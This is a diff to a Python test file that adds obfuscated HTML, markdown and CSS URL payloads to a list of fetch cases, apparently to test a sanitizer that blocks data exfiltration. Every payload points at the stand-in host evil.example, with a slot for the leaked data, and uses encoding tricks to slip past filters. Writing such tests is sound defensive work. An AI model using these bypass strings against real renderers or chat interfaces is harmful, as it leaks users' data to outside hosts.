@@ -97,6 +97,9 @@ _FETCHED = (
     '<a href="&#104;ttp&colon;evil.example/{}">', "https:user@evil.example/{}", "<img src=http:{}>", "http:evil.example/" + "a," * 900 + "{}",
     '<img src="http:' + "\t" * 700 + 'evil.example/?d=x {}">', '<img src="http:&#101;vil.example/?d=x {}">',
     '<img src="https://evil.example/\n\n?d={}">', "<img src = '//evil.example/\n \t\n?d={}'>", '<img src="http:evil.example/\n\n?d={}">',
+    '<img src="/&Tab;/evil.example/?d=x {}">', '<img src="https:&#47&#47evil.example/?d=x {}">', '<img src="ht&NewLine;tps:/evil.example/?d=x {}">',
+    '<img src="&#32//evil.example/{}">', "![a](https\\:/evil.example/{})", "<p style='background:url(\\68 ttps://evil.example/{})'>", "<img src=ht&Tab;tps:/evil.example/{}>",
+    '<img src="https:&#000000000000047;&#47;evil.example/?d=x {}">', '<img src="https://docs.example,.evil.example/?d=x {}">', "//evil。example/{}", "![a](<https:\n/evil.example/{}>)", "https:\n/{}",
     '<img src="ht' + "\t" * 700 + 'tps://evil.example/{}">', '<img src="' + " " * 700 + 'https://evil.example/?d=x {}">',
 )  # fmt: skip
 
@@ -243,6 +246,7 @@ def test_ten_thousand_placeholders() -> None:
 
 _PIECES = ("https:", "http:e", "\n\n", "//", "/", "evil.example", "?q=", " ", '"', "'", "<", ">", "(", ")", "\n", "![a]", "a", ".", "\\\\", "NAME",
     "ht", "tps:", "\t", "\\", "&#47;", "&sol;", "&colon;", "&#x74;tp:", '="', "= '", "[r]:", "postgres:", "\t\r\n" * 3, " " * 40, "`", "{", "\\n", "\\u002f",
+    "&Tab;", "&#47", "&#32", "\\:", "\\68 ", "\\2f", "&#00000000000", "47;",
 )  # fmt: skip
 
 
